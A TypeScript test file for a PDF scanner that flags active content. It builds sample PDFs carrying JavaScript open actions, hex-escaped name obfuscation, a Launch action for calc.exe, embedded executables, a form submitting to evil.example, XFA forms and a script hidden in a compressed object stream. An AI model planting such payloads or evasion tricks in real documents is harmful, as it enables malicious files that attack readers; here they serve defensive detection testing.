import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { samplePdf } from "../../testing/sample-files.ts";
import { findPdfActiveContent } from "./find-pdf-active-content.ts";

/** A one-page PDF whose catalog carries `catalogExtra`, followed by `extra` objects (numbered from 6). */
function pdfWith(catalogExtra: string, extra: Buffer[] = []): Buffer {
  const base = samplePdf().toString("latin1");
  const withCatalog = base.replace(
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`,
  );
  const [head, tail] = withCatalog.split("xref\n");
  const objects = extra.map((body, i) =>
    Buffer.concat([Buffer.from(`${i + 6} 0 obj\n`, "latin1"), body, Buffer.from("\nendobj\n", "latin1")]),
  );
  return Buffer.concat([
    Buffer.from(head ?? "", "latin1"),
    ...objects,
    Buffer.from(`xref\n${tail}`, "latin1"),
  ]);
}

/** An object stream (/ObjStm) holding `inner` objects, Flate-compressed as writers do. */
function objectStream(inner: string, filter = "/FlateDecode", corrupt = false): Buffer {
  const data = deflateSync(Buffer.from(`7 0 ${inner}`, "latin1"));
  if (corrupt) data.fill(0x58, 2, 8);
  return Buffer.concat([
    Buffer.from(
      `<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${data.length} >>\nstream\n`,
      "latin1",
    ),
    data,
    Buffer.from("\nendstream", "latin1"),
  ]);
}

describe("findPdfActiveContent (issue 16, item 7)", () => {
  it("accepts a plain document, links and page jumps included", () => {
    expect(findPdfActiveContent(samplePdf())).toBeNull();
    expect(findPdfActiveContent(pdfWith("/OpenAction [3 0 R /Fit]"))).toBeNull();
    expect(
      findPdfActiveContent(pdfWith("/OpenAction << /S /URI /URI (https://tropa.example) >>")),
    ).toBeNull();
  });

  it.each([
    ["an /OpenAction script", "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "JavaScript"],
    ["a hex-escaped name", "/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>", "JavaScript"],
    ["a launch action", "/OpenAction << /S /Launch /F (calc.exe) >>", "Launch"],
    ["embedded files", "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>", "EmbeddedFiles"],
    ["a form that submits", "/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>", "SubmitForm"],
    ["an XML form", "/AcroForm << /XFA 6 0 R >>", "XFA"],
  ])("refuses %s", (_label, catalog, found) => {
    expect(findPdfActiveContent(pdfWith(catalog))).toBe(found);
  });

  it("finds a script hidden in a compressed object stream", () => {
    const hidden = pdfWith("/OpenAction 7 0 R", [objectStream("<< /S /JavaScript /JS (app.alert(1)) >>")]);
    expect(hidden.toString("latin1")).not.toContain("/JavaScript");
    expect(findPdfActiveContent(hidden)).toBe("JavaScript");
    expect(
      findPdfActiveContent(pdfWith("", [objectStream("<< /Type /Font /BaseFont /Helvetica >>")])),
    ).toBeNull();
  });

  it("refuses an object stream it cannot read rather than accepting it unseen", () => {
    const unknownFilter = pdfWith("", [objectStream("<< /S /JavaScript >>", "/LZWDecode")]);
    expect(findPdfActiveContent(unknownFilter)).toBe("uninspectable");
    const chained = pdfWith("", [objectStream("<< /S /JavaScript >>", "[/FlateDecode /ASCIIHexDecode]")]);
    expect(findPdfActiveContent(chained)).toBe("uninspectable");
    const broken = pdfWith("", [objectStream("<< /S /JavaScript >>", "/FlateDecode", true)]);
    expect(findPdfActiveContent(broken)).toBe("uninspectable");
  });
});
